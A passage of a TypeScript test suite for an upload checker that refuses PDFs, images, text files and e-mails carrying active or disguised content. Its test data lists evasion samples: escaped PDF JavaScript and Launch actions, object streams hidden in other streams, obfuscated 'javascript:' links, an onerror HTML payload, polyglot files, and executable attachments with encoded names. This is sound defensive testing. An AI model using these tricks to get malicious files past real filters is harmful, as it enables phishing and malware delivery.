    ['a comment of a server after its end', pdf({ after: '<!-- served by x --></body></html>' }), null],
    ['the boundary of a message after its end', pdf({ after: '\r\n------=_NextPart--\r\n' }), null],
    ['a zip package after its end', Buffer.concat([pdf(), zip(ooxmlEntries('docx'))]), 'content-mismatch'],
    [
      'a zip package whose comment is its end',
      Buffer.concat([
        pdf({ objects: '7 0 obj << >>\nstream\n' }).subarray(0, 300),
        zip([{ name: 'a', data: 'x' }], { comment: '\nendstream endobj\nstartxref\n0\n%%EOF\n' }),
      ]),
      'content-mismatch',
    ],
  ])('with %s', async (_, content, reason) => {
    expect(await check('pdf', content)).toBe(reason);
  });

  const SCRIPT = '8 0 << /S /JavaScript /JS (1) >>';

  it.each<[string, string, UploadRefusal]>([
    ['whose type is escaped', objectStream(SCRIPT, { type: '/Type /Obj#53tm' }), 'pdf-script'],
    ['without a type, which readers do not look at', objectStream(SCRIPT, { type: '' }), 'pdf-script'],
    ['without a filter', objectStream(SCRIPT, { filter: '' }), 'pdf-script'],
    ['with an empty list of filters', objectStream(SCRIPT, { filter: '/Filter []' }), 'pdf-script'],
    ['with a short name of its filter', objectStream(SCRIPT, { filter: '/F#69lter /Fl' }), 'pdf-script'],
    [
      'with two filters',
      objectStream(SCRIPT, { filter: '/Filter [/ASCIIHexDecode /FlateDecode]' }),
      'pdf-script',
    ],
    [
      'with a filter that no program uses there',
      objectStream(SCRIPT, { filter: '/Filter /LZWDecode' }),
      'damaged',
    ],
    [
      'with a predictor, which no program uses there',
      objectStream(SCRIPT, { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }),
      'damaged',
    ],
    [
      'that is not packed as it says',
      '9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xff\xff\xff\xff\nendstream endobj',
      'damaged',
    ],
  ])('with a script in an object stream %s', async (_, objects, reason) => {
    expect(await check('pdf', pdf({ objects }))).toBe(reason);
  });

  it.each<[string, UploadRefusal]>([
    ['SubmitForm', 'pdf-form'],
    ['XFA', 'pdf-form'],
    ['ImportData', 'pdf-launch'],
    ['Launch', 'pdf-launch'],
    ['L#61unch', 'pdf-launch'],
    ['Rendition', 'pdf-media'],
    ['Movie', 'pdf-media'],
    ['RichMedia', 'pdf-media'],
    ['GoToE', 'pdf-attachment'],
    ['FileAttachment', 'pdf-attachment'],
    ['EF', 'pdf-attachment'],
    ['OnInstantiate', 'pdf-script'],
  ])('with %s, under any object or under none, is refused', async (name, reason) => {
    const objects = [
      `7 0 obj << /S /${name} >> endobj`,
      `7 0 obj << /${name} 8 0 R >> endobj`,
      `7 0 obj [ /${name} ] endobj`,
      objectStream(`8 0 << /S /${name} >>`),
    ];
    for (const object of objects) expect(await check('pdf', pdf({ objects: object }))).toBe(reason);
  });

  it.each(['constructor', 'Subject', 'Link', 'URI', 'GoTo', 'JSON', 'XFAx'])(
    'with %s is taken',
    async (name) => {
      expect(await check('pdf', pdf({ objects: `7 0 obj << /A /${name} /${name} 1 >> endobj` }))).toBeNull();
    },
  );

  const FILTER = '7 0 obj /FlateDecode endobj\n';

  it.each<[string, string]>([
    ['whose filter is a reference', FILTER + objectStream(SCRIPT, { filter: '/F#69lter 7 0 R' })],
    ['one of whose filters is a reference', FILTER + objectStream(SCRIPT, { filter: '/Filter [7 0 R]' })],
    [
      'whose parameters are a reference',
      `7 0 obj << /Predictor 1 >> endobj\n${objectStream(SCRIPT, { filter: '/Filter /FlateDecode /DecodeParms 7 0 R' })}`,
    ],
    ['whose /N is a reference', objectStream(SCRIPT).replace('/N 1', '/N 7 0 R')],
    ['whose /First is a reference', objectStream(SCRIPT).replace('/First 4', '/First 7 0 R')],
    ['without /First', objectStream(SCRIPT).replace('/First 4', '')],
    [
      'with a comment that looks like an object',
      FILTER + objectStream(SCRIPT, { filter: '%1 obj\n/Filter 7 0 R' }),
    ],
    [
      'with a string that looks like an object',
      FILTER + objectStream(SCRIPT, { filter: '/A (\\)1 obj << ) /Filter 7 0 R' }),
    ],
    ['after a comment', objectStream(SCRIPT).replace('>>\nstream', '>> %\nstream')],
    ['on the line of its keyword', objectStream(SCRIPT).replace('>>\nstream\n', '>>\nstream')],
  ])('with an object stream %s, which readers may unpack, is refused', async (_, objects) => {
    expect(await check('pdf', pdf({ objects }))).toBe('damaged');
  });

  it.each([' \n', '\t\r\n', ' \t\0\r'])('reads a stream whose keyword ends in %j', async (end) => {
    const objects = objectStream(SCRIPT).replace('>>\nstream\n', `>>\nstream${end}`);
    expect(await check('pdf', pdf({ objects }))).toBe('pdf-script');
  });

  it('takes an object stream that names its length and another stream by reference', async () => {
    const objects = objectStream('8 0 << /Type /Font >>').replace(
      /\/Length \d+/,
      '/Length 7 0 R /Extends 6 0 R',
    );
    expect(await check('pdf', pdf({ objects }))).toBeNull();
  });

  it.each<[string, string, UploadRefusal | null]>([
    ['cannot be parsed', '4 0 obj ) endobj', null],
    ['cannot be parsed, and holds a script', '4 0 obj ) << /S /JavaScript >> endobj', 'pdf-script'],
    ['is no object', 'nothing', null],
    ['is no object, before a script', 'nothing 4 0 obj << /S /JavaScript >> endobj', 'pdf-script'],
    ['is null', '4 0 obj null endobj', null],
    ['is not there', '', null],
  ])('whose tables name an object that %s', async (_, object, reason) => {
    expect(await check('pdf', withTables(['/Names 4 0 R', object]))).toBe(reason);
  });

  it.each<[string, string, UploadRefusal | null]>([
    ['holds a script', objectStream('4 0 << /S /JavaScript >>'), 'pdf-script'],
    ['holds nothing active', objectStream('4 0 << /A 1 >>'), null],
    ['does not say what it is', objectStream('4 0 << /A 1 >>', { type: '' }), null],
    [
      'does not say what it is, and holds a script',
      objectStream('4 0 << /S /JavaScript >>', { type: '' }),
      'pdf-script',
    ],
  ])('whose /XRefStm leads into an object stream that %s', async (_, packed, reason) => {
    const table = '10 0 obj << /Type /XRef /Size 11 /W [1 1 1] /Index [4 1] /Root 1 0 R /Length 3 >>';
    const stream = `${table}\nstream\n\x02\x09\0\nendstream endobj`;
    const plain = withTables(['/Names 4 0 R', '', '', '', '', '', packed, stream]).toString('latin1');
    const hybrid = plain.replace('trailer <<', `trailer << /XRefStm ${plain.indexOf(table)}`);
    expect(await check('pdf', Buffer.from(hybrid, 'latin1'))).toBe(reason);
  });

  it.each<[string, UploadRefusal]>([
    ['/Type /Filespec /F (a.exe) /EF << /F 8 0 R >>', 'pdf-attachment'],
    ['/Type /Annot /Subtype /FileAttachment /FS 8 0 R', 'pdf-attachment'],
    ['/S /Thread /F (a.pdf) /D 0', 'pdf-launch'],
    ['/F 8 0 R /D 0 /S /Thread', 'pdf-launch'],
    ['/Type /3D /OnInstantiate 8 0 R', 'pdf-script'],
    ['/S /URI /URI (javascript:alert\\(1\\))', 'pdf-script'],
    ['/S /URI /URI (\\152ava\\nscript:alert)', 'pdf-script'],
    ['/S /URI /URI <6A6176 61736372 6970743A>', 'pdf-script'],
    ['/S /U#52I /UR#49 ( JAVASCRIPT:alert)', 'pdf-script'],
  ])('with << %s >>, under any object or under none, is refused', async (dictionary, reason) => {
    const refused = [
      pdf({ objects: `7 0 obj << ${dictionary} >> endobj` }),
      pdf({ objects: objectStream(`8 0 << ${dictionary} >>`) }),
      withTables(['/OpenAction 4 0 R', `4 0 obj << ${dictionary} >> endobj`]),
    ];
    for (const content of refused) expect(await check('pdf', content)).toBe(reason);
  });

  it.each([
    '/S /URI /URI (https://example.org/a?javascript:file:)',
    '/S /URI /URI (http://example.org)',
    '/S /URI /URI (mailto:a@example.org)',
    '/S /URI /URI (tel:0123)',
    '/S /URI /URI (report/file.pdf)',
    // Office programs write links to shared drives and to documents beside this one so. A reader asks before it follows.
    '/S /URI /URI (file:///S:/reports/2026.docx)',
    '/S /GoToR /F (annex.pdf) /D [0 /Fit]',
    '/Subtype /Link /F 4 /A << /S /URI /URI (https://example.org) >>',
    '/S /Thread /D 0',
    '/Type /Thread /F 9 0 R /I << /Title (a) >>',
    '/S /Sound /Sound 9 0 R',
  ])('with << %s >> is taken', async (dictionary) => {
    const content = withTables(['/OpenAction 4 0 R', `4 0 obj << ${dictionary} >> endobj`]);
    expect(await check('pdf', content)).toBeNull();
  });

  it.each<[string, string, UploadRefusal | null]>([
    ['a string', '/F (a)', 'pdf-launch'],
    ['a dictionary', '/F << /FS /URL /F (a) >>', 'pdf-launch'],
    ['a reference to either', '/F 5 0 R', 'pdf-launch'],
    ['a number', '/F 4', null],
    ['the name of a font in it', '/Resources << /Font << /F 5 0 R >> >>', null],
  ])('with a stream whose /F is %s', async (_, file, reason) => {
    const stream = `4 0 obj << /Length 0 ${file} >>\nstream\n\nendstream endobj`;
    expect(await check('pdf', withTables(['/A 4 0 R', stream, '5 0 obj << /A 1 >> endobj']))).toBe(reason);
  });

  it('with an object in the data of another stream, where a table may lead, is refused', async () => {
    const hidden = '8 0 obj << /S /JavaScript >> endobj';
    expect(
      await check('pdf', pdf({ objects: `7 0 obj << /A 1 >>\nstream\n${hidden}\nendstream endobj` })),
    ).toBe('pdf-script');
  });

  it('with the first of two keys of one name is read as with the second', async () => {
    for (const action of ['/S /Launch /S /URI', '/S /URI /S /Launch'])
      expect(await check('pdf', pdf({ objects: `7 0 obj << ${action} >> endobj` }))).toBe('pdf-launch');
  });

  it('that no reader opens is refused', async () => {
    const nothing = Buffer.from('%PDF-1.7\nnothing\nstartxref\n0\n%%EOF\n');
    expect(await check('pdf', nothing)).toBe('damaged');
  });

  describe.skipIf(!canReadPdfs()).each([
    ['128 bits', '128', '--allow-weak-crypto'],
    ['AES of 128 bits', '128 --use-aes=y', '--allow-weak-crypto'],
    ['AES of 256 bits', '256', ''],
  ])('encrypted with %s', (_, key, more) => {
    const encrypted = async (content: Buffer, password: string): Promise<Buffer> => {
      const [plain, made] = [join(folder, 'plain.pdf'), join(folder, 'encrypted.pdf')];
      // Its tables lead nowhere, so qpdf looks for the objects, and ends with a warning.
      await writeFile(plain, content.toString('latin1').replace(/startxref\n\d+/, 'startxref\n0'), 'latin1');
      const options = [
        ...more.split(' ').filter(Boolean),
        '--object-streams=generate',
        '--encrypt',
        password,
        'owner',
        ...key.split(' '),
        '--',
      ];
      spawnSync('qpdf', [...options, plain, made]);
      return readFile(made);
    };

    it('is taken when it opens without a password, and searched', async () => {
      expect(await check('pdf', await encrypted(pdf(), ''))).toBeNull();
      const action = pdf({ objects: '7 0 obj << /Type /Action /S /JavaScript /JS (1) >> endobj' });
      const opened = Buffer.from(
        action.toString('latin1').replace('/Pages 2 0 R', '/Pages 2 0 R /OpenAction 7 0 R'),
        'latin1',
      );
      const content = await encrypted(opened, '');
      expect(content.includes('JavaScript')).toBe(false);
      expect(await check('pdf', content)).toBe('pdf-script');
    });

    it('is refused when it asks for a password', async () => {
      expect(await check('pdf', await encrypted(pdf(), 'user'))).toBe('encrypted');
    });
  });
});

describe('pictures', () => {
  it.each<[string, string, Buffer, UploadRefusal | null]>([
    ['png', 'more pixels than allowed', png({ width: 20_000, height: 20_000 }), 'too-many-pixels'],
    ['png', 'no width', png({ width: 0 }), 'damaged'],
    ['png', 'no end', png({ end: false }), 'damaged'],
    ['png', 'bytes after its end', png({ after: '<script>' }), 'content-mismatch'],
    ['jpg', 'more pixels than allowed', jpeg({ width: 60_000, height: 60_000 }), 'too-many-pixels'],
    ['jpg', 'no end', jpeg({ end: false }), 'damaged'],
    ['jpg', 'a preview after its end', jpeg({ after: jpeg() }), null],
    ['jpg', 'a zip package after its end', jpeg({ after: zip(ooxmlEntries('docx')) }), 'content-mismatch'],
  ])('%s with %s', async (extension, _, content, reason) => {
    expect(await check(extension, content)).toBe(reason);
  });
});

describe('text', () => {
  const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
  const utf32 = (text: string) => {
    const points = Uint32Array.from(text, (character) => character.codePointAt(0) ?? 0);
    return Buffer.from(points.buffer);
  };

  it.each<[string, Buffer | string, UploadRefusal | null]>([
    ['UTF-16, little end first', utf16('name,score\r\nاردو,3\r\n'), null],
    ['UTF-16, big end first', utf16('name,score\r\nTŷ,3\r\n').swap16(), null],
    ['UTF-16 without a mark', Buffer.from('name,score\r\nاردو,3\r\n', 'utf16le'), null],
    ['UTF-16 without a mark, big end first', Buffer.from('name,score\r\n', 'utf16le').swap16(), null],
    ['UTF-32', utf32('\uFEFFname,score\r\n🙂,3\r\n'), null],
    ['UTF-32, big end first', utf32('\uFEFFname,score\r\n').swap32(), null],
    ['UTF-32 without a mark', utf32('name,score\r\n'), null],
    ['UTF-32 without a mark, big end first', utf32('name,score\r\n').swap32(), null],
    ['UTF-32 that is a page', utf32('<html><script>'), 'content-mismatch'],
    ['UTF-16 without a mark that is a page', Buffer.from('<html><script>', 'utf16le'), 'content-mismatch'],
    ['numbers that are no text', Buffer.from([1, 0, 2, 0, 0x2c, 0, 3, 0]), 'content-mismatch'],
    ['16-bit numbers that no text has', Buffer.from([0x2c, 0, 0, 0xdc, 0xff, 0xff]), 'content-mismatch'],
    ['UTF-16 cut in a character', utf16('abc').subarray(0, 7), 'content-mismatch'],
    ['UTF-16 that is a page', utf16('<html><script>'), 'content-mismatch'],
    ['UTF-16 with a null', utf16('a\0b'), 'content-mismatch'],
    ['UTF-8 with a mark', '\uFEFFname,score\n', null],
    ['what Excel writes in a Western code page', Buffer.from('name,\u00a310\r\n', 'latin1'), null],
    ['a formula, which is guarded when it is exported', '=HYPERLINK("x"),1\n', null],
    [
      'a null late in the file',
      Buffer.concat([Buffer.alloc(600_001, 'a'), Buffer.from([0])]),
      'content-mismatch',
    ],
    ['the start of a PDF a few lines down', 'a\nb\n%PDF-1.4\n', 'content-mismatch'],
    [
      'a zip package at the end',
      Buffer.concat([Buffer.from('a,b\n'), zip([{ name: 'a', data: 'x' }])]),
      'content-mismatch',
    ],
    ['words about <script> further down', 'We looked at <script> tags\n', null],
    ['words in angle brackets', '<Table 4> Delayed transfers\n', null],
    ['a word in angle brackets', '<Title>\n<Name of council>\n', null],
    ['more words in angle brackets', '<Link to the paper> and <a list of names>\n', null],
    ['the heading of a page', '<h1>Delayed transfers</h1>', 'content-mismatch'],
    ['a picture of a page', '<img src=x onerror=alert(1)>', 'content-mismatch'],
    [
      'a link of a page, after comments',
      '<!-- a --> <!-- b --><a href="javascript:alert(1)">',
      'content-mismatch',
    ],
  ])('%s', async (_, content, reason) => {
    expect(await check('csv', content)).toBe(reason);
    expect(await check('txt', content)).toBe(reason);
  });

  it('refuses exactly the control characters that no text holds', { timeout: 60_000 }, async () => {
    const refused: number[] = [];
    for (let byte = 0; byte < 256; byte += 1) {
      const at = byte % 5;
      const content = Buffer.concat([
        Buffer.from('abcd'.slice(0, at)),
        Buffer.from([byte]),
        Buffer.from('efghij'),
      ]);
      if ((await check('txt', content)) !== null) refused.push(byte);
    }
    const expected = [...Array(32).keys()].filter(
      (byte) => ![7, 8, 9, 10, 11, 12, 13, 0x1a, 0x1b].includes(byte),
    );
    expect(refused).toEqual(expected);
  });
});

describe('e-mail', () => {
  const attached = (name: string) =>
    `${EMAIL}--b\r\nContent-Disposition: attachment;\r\n filename=${name}\r\n\r\nAAAA\r\n--b--\r\n`;

  it.each<[string, string, UploadRefusal | null]>([
    ['an envelope line first', `From sian@x Sat Nov 21 09:32:00 2026\n${EMAIL}`, null],
    ['bare line feeds', EMAIL.replaceAll('\r\n', '\n'), null],
    ['an envelope line that was quoted', `>From sian@x Sat Nov 21 09:32:00 2026\n${EMAIL}`, null],
    ['bare carriage returns', EMAIL.replaceAll('\r\n', '\r'), null],
    ['a mark of UTF-8', `\uFEFF${EMAIL}`, null],
    ['no From, as a draft that was never sent', EMAIL.replace('From:', 'X-Unsent: 1\r\nX-From:'), null],
    ['lines that go on and are not indented', EMAIL.replace(' Date of visit', 'Date of visit'), null],
    ['bytes that are no text in its body', `${EMAIL}\0\x01\x02`, null],
    ['one known header', 'Subject: visits\nThank you: all\n\nWords\n', 'content-mismatch'],
    ['more lines than headers', `To: a\nSubject: b\n${'words\n'.repeat(3)}\n`, 'content-mismatch'],
    ['a line in the header block that is no header', `Hello there\r\n${EMAIL}`, 'content-mismatch'],
    ['words only', 'Dear Siân,\n\nThank you.\n', 'content-mismatch'],
    ['a document attached', attached('"minutes.docx"'), null],
    ['a program attached', attached('"invoice.exe"'), 'email-program'],
    ['a program attached, no quotes', attached('run.ps1'), 'email-program'],
    ['a macro document attached', attached('"budget.xlsm"'), 'email-macros'],
    [
      'a program whose name is given in parts',
      attached('x; filename*0="inv; oice."; filename*1="exe"'),
      'email-program',
    ],
    ['a program whose name is encoded', attached("x; filename*=utf-8''invoice%2Eexe"), 'email-program'],
    ['a program in an encoded word', attached('"=?utf-8?B?aW52b2ljZS5leGU=?="'), 'email-program'],
    ['a macro document in an encoded word', attached('"=?utf-8?Q?budget=2Exlsm?="'), 'email-macros'],
    ['a program with a dot and blanks behind its name', attached('"invoice.exe . "'), 'email-program'],
    [
      'an address with .com in its text',
      `${EMAIL}See https://forms.example/?name=Kent and write to info@kentcarers.com please.\r\n`,
      null,
    ],
    ['the name of a program in its text', `${EMAIL}Content-Type: x; name=setup.exe\r\n`, null],
    [
      'a program attached to a message inside it',
      `${EMAIL}--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: a\r\nContent-Type: x/y; name=setup.exe\r\n\r\n`,
      'email-program',
    ],
    [
      'a program attached, on a line that is not indented',
      `${EMAIL}--b\r\nContent-Disposition: attachment;\r\nfilename=setup.exe\r\n\r\n`,
      'email-program',
    ],
    [
      'a program attached, after bare carriage returns',
      `${EMAIL}--b\rContent-Disposition: attachment;\r filename=setup.exe\r\r`,
      'email-program',
    ],
    ['a program of MS-DOS attached', attached('"invoice.com"'), 'email-program'],
    [
      'an address as the name of a message',
      `${EMAIL}--b\nContent-Type: message/rfc822; name="Re: kent.com"\n\n`,
      null,
    ],
    [
      'an address as the name of a text',
      `${EMAIL}--b\nContent-Type: text/plain; name="info@kentcarers.com"\n\n`,
      null,
    ],
    ['an address as the name of something else', attached('"info@kentcarers.com"'), 'email-program'],
    [
      'an address as the name of a text that is packed',
      `${EMAIL}--b\nContent-Type: text/plain; name="www.setup.com"\nContent-Transfer-Encoding: base64\n\n`,
      'email-program',
    ],
    ['a program whose name has a quote at its end', attached("'invoice.exe'"), 'email-program'],
    ['a program whose name ends in what nobody sees', attached('"invoice.exe\u200b"'), 'email-program'],
    [
      'a program, after a comment',
      `${EMAIL}--b\nContent-Disposition: attachment; (x) filename="setup.exe"\n\n`,
      'email-program',
    ],
    [
      'a program under another name',
      `${EMAIL}--b\nContent-Type: a/b; name="minutes.pdf"\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--b--\n`,
      'email-program',
    ],
    ['a name in UTF-7', attached('"=?utf-7?Q?setup+AC4-exe?="'), 'email-program'],
    ['a name in UTF-7, encoded', attached("x; filename*=utf-7''setup+AC4-exe"), 'email-program'],
    ['a name in UTF-16', attached('"=?UTF-16LE?B?cwBlAHQAdQBwAC4AZQB4AGUA?="'), 'email-program'],
    ['a name in Japanese', attached('"=?iso-2022-jp?B?GyRCO3E0fRsoQi5kb2N4?="'), null],
    ['a field too long for any program', attached(`"${'a'.repeat(70_000)}.txt"`), 'content-mismatch'],
  ])('with %s', async (_, content, reason) => {
    expect(await check('eml', content)).toBe(reason);
  });
});

it('throws the system’s error for a file that is gone', async () => {
  const type = allowedTypeOf('x.pdf');
  expect(type).not.toBeNull();
  if (type) await expect(checkContent(join(folder, 'gone'), type)).rejects.toThrow('ENOENT');
});
